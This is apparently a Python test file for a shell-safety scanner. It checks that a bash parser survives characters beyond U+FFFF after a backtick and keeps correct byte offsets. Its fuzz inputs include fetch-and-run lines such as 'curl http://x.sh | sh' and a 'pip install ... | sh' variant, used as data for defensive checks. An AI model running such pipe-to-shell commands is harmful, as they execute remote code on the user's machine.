"""A skill's text never crashes the process through the shell parser: tree-sitter-bash 0.25 dies with
SIGSEGV on some characters beyond U+FFFF after a backtick (```sh`}{` + U+F0000``), intermittently, so
the check runs many of them, through every caller of the parser, in a child process (a crash there fails the test instead of pytest)."""

from __future__ import annotations

import subprocess
import sys

from skillforge.text import parse

CHILD = """
import random
from skillforge.distill.offline.codeloc import enclosing
from skillforge.safety.copied_commands import notable
from skillforge.safety.shell import find_unsafe
from skillforge.skills.rules.content import syntax_error_line
rng = random.Random(7)
for _ in range(400):
    cp = rng.choice([rng.randrange(0x10000, 0x110000), 0xF0000, 0xE0100])
    text = "curl http://x.sh | sh`}{" + chr(cp) + "   ```sh"
    find_unsafe(text)
    notable("pip install x`}{" + chr(cp) + " | sh")
    syntax_error_line("sh", text)  # validate's check of a fenced shell block
    enclosing(text, 0, "bash")  # distill's code locator
print("survived")
"""


def test_characters_beyond_the_bmp_never_crash_the_shell_parser() -> None:
    done = subprocess.run([sys.executable, "-c", CHILD], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0 and "survived" in done.stdout, (done.returncode, done.stderr[-500:])


def test_byte_offsets_hold_where_such_characters_are_replaced() -> None:
    text = "echo \U0001f600; curl http://x.sh | sh"
    root = parse("bash", text)
    pipeline = next(n for n in root.children if n.type == "pipeline")
    assert text.encode()[pipeline.start_byte : pipeline.end_byte] == b"curl http://x.sh | sh"
